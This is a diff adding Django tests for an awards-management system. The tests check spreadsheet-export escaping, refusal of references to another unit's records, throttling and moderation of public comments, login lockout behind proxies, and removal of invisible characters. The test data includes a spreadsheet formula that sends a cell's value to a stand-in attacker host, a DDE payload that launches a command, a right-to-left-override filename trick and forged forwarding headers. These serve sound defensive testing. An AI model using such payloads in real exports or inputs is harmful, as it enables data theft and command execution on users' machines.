@@ -1,0 +1,165 @@
+"""Hardening (OWASP ASVS L2, issue 17): inert spreadsheet exports, references checked against the actor's scope,
+public comments throttled and moderated."""
+
+import io
+
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from targets.models import Target
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'
+
+
+def _cells(content: bytes):
+    book = load_workbook(io.BytesIO(content))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_user_text_in_exports_stays_text(officer_client, leader_client):
+    target = Target.objects.filter(year=2023).first()
+    Target.objects.filter(pk=target.pk).update(statement=FORMULA)
+    content = leader_client.get(reverse("targets:dashboard") + "?year=2023&format=xlsx").content
+    written = [cell for cell in _cells(content) if cell.value == FORMULA]
+    assert written and all(cell.data_type == "s" for cell in written)
+
+    from awards import fund
+    from awards.models import FundEntryKind, FundSource
+
+    from .awards_helpers import users
+
+    fund.record_income(users()["demo_officer"], kind=FundEntryKind.INCOME, source=FundSource.OTHER, amount=1,
+                       entered_on=__import__("datetime").date(2026, 2, 1), description="@SUM(1+1)*cmd|' /C calc'!A0")
+    cells = _cells(officer_client.get(reverse("awards:fund_excel") + "?year=2026").content)
+    assert [c.data_type for c in cells if isinstance(c.value, str) and c.value.startswith("@SUM")] == ["s"]
+
+
+def test_references_to_another_units_records_are_refused(db):
+    """A household or collective nominee of unit B cannot point at unit A's person or unit (API and service); the
+    answer is the same as for an id that does not exist."""
+    from django.core.exceptions import ValidationError
+    from rest_framework.test import APIClient
+
+    from awards import services
+    from awards.models import AwardType
+    from organisation.models import Unit, User
+
+    from .awards_helpers import person
+
+    foreign_person, foreign_unit = person("Nguyễn Văn An"), Unit.objects.get(code="so-ke-hoach-dau-tu")
+    staff_b = User.objects.get(username="demo_staff_b")
+    api = APIClient()
+    api.force_authenticate(staff_b)
+    unit_b = staff_b.unit
+    created = api.post("/api/v1/submissions/", {"unit": unit_b.code, "title": "Đề nghị", "round_kind": "ad_hoc",
+                                                "year": 2023, "commendation_type": "ad_hoc"}, format="json")
+    assert created.status_code == 201, created.json()
+    url = f"/api/v1/submissions/{created.json()['id']}/nominees/"
+    household = {"subject": "household", "name": "Hộ ông An", "award_type": "bang-khen-chu-tich-ho-gia-dinh",
+                 "achievement_summary": "x"}
+    collective = {"subject": "collective", "name": "Phòng KH", "award_type": "bang-khen-chu-tich-tap-the",
+                  "achievement_summary": "x"}
+    answers = [api.post(url, {**household, "person": foreign_person.pk}, format="json"),
+               api.post(url, {**collective, "collective_unit": foreign_unit.pk}, format="json")]
+    missing = api.post(url, {**household, "person": 999_999}, format="json")
+    assert [a.status_code for a in answers] == [400, 400] and missing.status_code == 400
+    assert answers[0].json()["person"] == [m.replace("999999", str(foreign_person.pk))
+                                           for m in missing.json()["person"]]
+    # The service refuses it too (the pages' forms and any other caller).
+    from awards.models import Submission
+
+    submission = Submission.objects.get(pk=created.json()["id"])
+    try:
+        services.save_nominee(staff_b, submission, subject="household", name="Hộ ông An", person=foreign_person,
+                              award_type=AwardType.objects.get(code="bang-khen-chu-tich-ho-gia-dinh"),
+                              achievement_summary="x")
+    except ValidationError as exc:
+        assert "person" in exc.message_dict
+    else:
+        raise AssertionError("another unit's person was accepted")
+    assert not submission.nominees.exists()
+
+
+def _public_comment_nominee():
+    from awards.models import Status
+
+    from .awards_helpers import draft, to_state, users
+
+    submission = to_state(draft(award="cstd-toan-quoc", names=("Vũ Thị Hạnh",)), Status.APPRAISED)
+    from awards import services
+
+    services.open_public_comment(users()["demo_officer"], submission)
+    return submission.nominees.get()
+
+
+def test_public_comments_are_throttled_cleaned_and_moderated(db, officer_client):
+    from django.test import Client
+
+    from awards.models import CommentStatus, PublicComment
+
+    nominee = _public_comment_nominee()
+    url = reverse("public_comment", args=[nominee.pk])
+    citizen = Client(REMOTE_ADDR="198.51.100.7")
+    answers = [citizen.post(url, {"author": "Ông\u202e Ba", "content": f"Ý kiến {i}\u200b"}, follow=True)
+               for i in range(5)]
+    assert PublicComment.objects.count() == 3  # three a day on one nominee from one address
+    refused = answers[3].content.decode()
+    assert answers[3].status_code == 200 and "đã gửi 3 ý kiến" in refused and "Ý kiến 3" in refused  # input kept
+    stored = PublicComment.objects.first()
+    assert stored.author == "Ông Ba" and stored.content == "Ý kiến 0" and stored.address == "198.51.100.7"
+    # Another address is not held back by the first one.
+    Client(REMOTE_ADDR="198.51.100.8").post(url, {"author": "Bà Tư", "content": "Đồng ý"})
+    assert PublicComment.objects.count() == 4
+
+    # The Board reads them: new ones first, taken into account or dismissed, with a note.
+    page = officer_client.get(reverse("awards:comment_list")).content.decode()
+    assert "Ý kiến 0" in page and "Bà Tư" in page
+    officer_client.post(reverse("awards:comment_moderate", args=[stored.pk, "dismiss"]), {"note": "Trùng lặp"})
+    stored.refresh_from_db()
+    assert stored.status == CommentStatus.DISMISSED and stored.moderation_note == "Trùng lặp"
+    assert stored.moderated_by.username == "demo_officer"
+    assert "Ý kiến 0" not in officer_client.get(reverse("awards:comment_list")).content.decode()
+    # Unit staff and anonymous callers cannot moderate.
+    staff = Client()
+    staff.force_login(__import__("organisation.models", fromlist=["User"]).User.objects.get(username="demo_staff"))
+    assert staff.post(reverse("awards:comment_moderate", args=[stored.pk, "accept"])).status_code == 403
+    assert staff.get(reverse("awards:comment_list")).status_code == 403
+
+
+def test_lockout_follows_the_client_address_directly_and_behind_a_proxy(client, db, password, settings):
+    from django.test import Client
+
+    login = reverse("login")
+    wrong = {"username": "demo_officer", "password": "sai-mat-khau"}
+    right = {"username": "demo_officer", "password": password}
+    # Directly: X-Forwarded-For is ignored (anyone can send it), the address is REMOTE_ADDR.
+    attacker = Client(REMOTE_ADDR="203.0.113.5")
+    for forged in range(settings.AXES_FAILURE_LIMIT):
+        attacker.post(login, wrong, HTTP_X_FORWARDED_FOR=f"192.0.2.{forged}")
+    assert attacker.post(login, right, HTTP_X_FORWARDED_FOR="192.0.2.99").status_code == 429
+    # …while the officer, from another address, still signs in: lockout is by user *and* address.
+    assert Client(REMOTE_ADDR="203.0.113.9").post(login, right).status_code == 302
+
+    # Behind one reverse proxy every request comes from the proxy's address; the client is in X-Forwarded-For.
+    settings.PROXY_COUNT = 1
+    proxy = "10.0.0.2"
+    behind = Client(REMOTE_ADDR=proxy)
+    for _ in range(settings.AXES_FAILURE_LIMIT):
+        behind.post(login, {"username": "demo_leader", "password": "x"}, HTTP_X_FORWARDED_FOR="198.51.100.20")
+    assert behind.post(login, {"username": "demo_leader", "password": password},
+                       HTTP_X_FORWARDED_FOR="198.51.100.20").status_code == 429
+    other = Client(REMOTE_ADDR=proxy)
+    assert other.post(login, {"username": "demo_leader", "password": password},
+                      HTTP_X_FORWARDED_FOR="198.51.100.21").status_code == 302
+    # Entries a client forges on the left are never read: the address the proxy appended decides, both ways.
+    assert Client(REMOTE_ADDR=proxy).post(login, {"username": "demo_leader", "password": password},
+                                          HTTP_X_FORWARDED_FOR="198.51.100.20, 198.51.100.21").status_code == 302
+    assert Client(REMOTE_ADDR=proxy).post(login, {"username": "demo_leader", "password": password},
+                                          HTTP_X_FORWARDED_FOR="198.51.100.99, 198.51.100.20").status_code == 429
+
+
+def test_invisible_characters_are_removed_from_names():
+    from organisation.text import clean_text
+
+    assert clean_text("rtl\u202egnp.exe") == "rtlgnp.exe"
+    assert clean_text(" Nguyễn\u200b Văn\ufeff An ") == "Nguyễn Văn An"
